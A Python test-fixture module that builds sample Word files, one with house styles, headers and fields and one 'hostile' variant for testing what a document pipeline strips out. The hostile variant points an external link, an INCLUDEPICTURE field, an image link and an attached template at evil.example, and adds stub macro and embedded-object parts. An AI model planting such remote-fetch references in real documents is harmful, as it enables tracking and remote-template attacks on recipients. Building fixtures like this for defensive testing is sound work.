"""Word files as clients send them: with styles, a header with fields and a picture, and what must not be passed on."""

import io
import zipfile

from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Mm, Pt, RGBColor
from PIL import Image

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def picture(size=(120, 40), kind="PNG"):
    made = io.BytesIO()
    Image.new("RGB", size, "#c00000").save(made, kind)
    return made.getvalue()


def house_file():
    """A client's file with styles of its own, a header with title, number and page, and margins."""
    document = Document()
    styles = document.styles
    styles["Heading 1"].font.color.rgb = RGBColor(0xC0, 0x00, 0x00)
    styles["Heading 1"].font.size = Pt(17)
    body = styles["Body Text"]
    body.font.name = "Georgia"
    table_text = styles.add_style("Table Text", WD_STYLE_TYPE.PARAGRAPH)
    table_text.font.size = Pt(8)
    section = document.sections[0]
    section.top_margin, section.left_margin = Mm(45), Mm(33)
    head = section.header.paragraphs[0]
    head.add_run().add_picture(io.BytesIO(picture()), width=Mm(20))
    head.add_run(" {number} / {title}")
    _field(head, "PAGE")
    section.footer.paragraphs[0].add_run("House footer {state}")
    return document


def saved(document):
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def _field(paragraph, instruction):
    for kind, text in (("begin", ""), ("", instruction), ("separate", ""), ("end", "")):
        run = paragraph.add_run()._r
        piece = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            piece.set(qn("w:fldCharType"), kind)
        piece.text = text or None
        run.append(piece)


def hostile_file():
    """The same with links, a field that fetches a picture, an object, macros and a template from elsewhere."""
    document = house_file()
    head = document.sections[0].header
    outside = head.part.relate_to("http://evil.example/x", f"{RELATIONS}/hyperlink", is_external=True)
    link = parse_xml(
        f'<w:hyperlink {nsdecls("w", "r")} r:id="{outside}"><w:r><w:t>click here</w:t></w:r></w:hyperlink>'
    )
    head.paragraphs[0]._p.append(link)
    _field(head.add_paragraph(), 'INCLUDEPICTURE "http://evil.example/p.png" \\d')
    fetched = head.part.relate_to("http://evil.example/i.png", f"{RELATIONS}/image", is_external=True)
    for blip in head._element.iter("{http://schemas.openxmlformats.org/drawingml/2006/main}blip"):
        blip.set(qn("r:link"), fetched)
    return with_parts(
        saved(document),
        {
            "word/vbaProject.bin": b"macro",
            "word/embeddings/oleObject1.bin": b"object",
            "word/_rels/settings.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{RELATIONS}/attachedTemplate" TargetMode="External" '
                'Target="http://evil.example/t.dotm"/></Relationships>'
            ).encode(),
        },
    )


def with_parts(data, parts):
    """A file with parts added or replaced."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()
